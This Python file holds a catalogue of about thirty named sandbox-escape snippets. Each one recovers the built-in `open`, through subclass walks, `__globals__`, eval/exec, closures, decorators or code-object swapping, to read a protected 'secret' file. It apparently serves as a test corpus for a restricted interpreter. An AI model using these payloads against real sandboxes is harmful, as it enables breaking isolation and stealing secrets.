"""Walks along attributes that Python keeps for itself, to `open`."""

READ = 'return opened(world["secret"]).read()'
BUILTINS = f'opened = found["open"] if isinstance(found, dict) else found.open\n{READ}'
SOULS = {
    "the subclasses of object": f"""
for one in ().__class__.__base__.__subclasses__():
    if one.__name__ == "_wrap_close":
        opened = one.__init__.__globals__["__builtins__"]["open"]
        {READ}
""",
    "the order of a text's classes": f"""
for one in "".__class__.__mro__[-1].__subclasses__():
    if hasattr(one.__init__, "__globals__"):
        found = one.__init__.__globals__["__builtins__"]
        break
{BUILTINS}
""",
    "mro by a call": f"""
for one in int.mro()[-1].__subclasses__():
    if hasattr(one.__init__, "__globals__"):
        found = one.__init__.__globals__["__builtins__"]
        break
{BUILTINS}
""",
    "the subclasses of type": f"""
for one in type.__subclasses__(type):
    for base in one.__mro__:
        for method in vars(base).values():
            if hasattr(method, "__globals__"):
                found = method.__globals__["__builtins__"]
                {READ.replace("opened", "found['open']")}
""",
    "globals of a function": f'found = (lambda: 0).__globals__["__builtins__"]\n{BUILTINS}',
    "built-ins of a function": f"found = (lambda: 0).__builtins__\n{BUILTINS}",
    "the module of print": f"found = print.__self__\n{BUILTINS}",
    "the module of len": f"found = len.__self__\n{BUILTINS}",
    "the name of the built-ins": f"found = __builtins__\n{BUILTINS}",
    "globals": f'found = globals()["__builtins__"]\n{BUILTINS}',
    "the loader": f"found = __import__(len.__module__)\n{BUILTINS}",
    "a name put together": f"""
found = getattr(getattr(lambda: 0, "__glo" + "bals__"), "get")("__builtins__")
{BUILTINS}
""",
    "object's own getattribute": f"""
found = object.__getattribute__(lambda: 0, "__globals__")["__builtins__"]
{BUILTINS}
""",
    "type's own getattribute": f"""
for one in type.__getattribute__(object, "__subclasses__")():
    if one.__name__ == "_wrap_close":
        found = one.__init__.__globals__["__builtins__"]
{BUILTINS}
""",
    "import by its function": f'found = __import__("builtins")\n{BUILTINS}',
    "eval": f'opened = eval("open")\n{READ}',
    "exec": f'names = {{}}\nexec("opened = open", names)\nopened = names["opened"]\n{READ}',
    "compile": f'opened = eval(compile("open", "x", "eval"))\n{READ}',
    "open": f"opened = open\n{READ}",
    "a method's function": f"""
class C:
    def method(self):
        return 0
found = C().method.__func__.__globals__["__builtins__"]
{BUILTINS}
""",
    "a class method": f"""
class C:
    @classmethod
    def method(cls):
        return 0
found = vars(C)["method"].__func__.__globals__["__builtins__"]
{BUILTINS}
""",
    "a property": f"""
class C:
    @property
    def value(self):
        return 0
found = C.value.fget.__globals__["__builtins__"]
{BUILTINS}
""",
    "a cell": f"""
def outer():
    kept = open
    return lambda: kept
opened = outer().__closure__[0].cell_contents
{READ}
""",
    "a partial function": f"""
import functools
found = functools.partial(lambda: 0).func.__globals__["__builtins__"]
{BUILTINS}
""",
    "attrgetter": f"""
import operator
found = operator.attrgetter("__globals__")(lambda: 0)["__builtins__"]
{BUILTINS}
""",
    "methodcaller": f"""
import operator
found = operator.methodcaller("__getattribute__", "__globals__")(lambda: 0)["__builtins__"]
{BUILTINS}
""",
    "reduce over getattr": f"""
import functools
found = functools.reduce(getattr, ["__class__", "__base__"], ()).__subclasses__
for one in found():
    if one.__name__ == "_wrap_close":
        opened = one.__init__.__globals__["__builtins__"]["open"]
        {READ}
""",
    "a decorator": f"""
@eval
@(lambda function: function.__name__)
def open():
    return 0
opened = open
{READ}
""",
    "an annotation": f"""
import typing
def f(x: "open"):
    return x
opened = typing.get_type_hints(f)["x"]
{READ}
""",
    "a default that is changed": f"""
def f(x=0):
    return x
f.__defaults__ = (f.__globals__["__builtins__"],)
found = f()
{BUILTINS}
""",
    "code in another's place": f"""
def f():
    return 0
def g():
    return open
f.__code__ = g.__code__
opened = f()
{READ}
""",
}
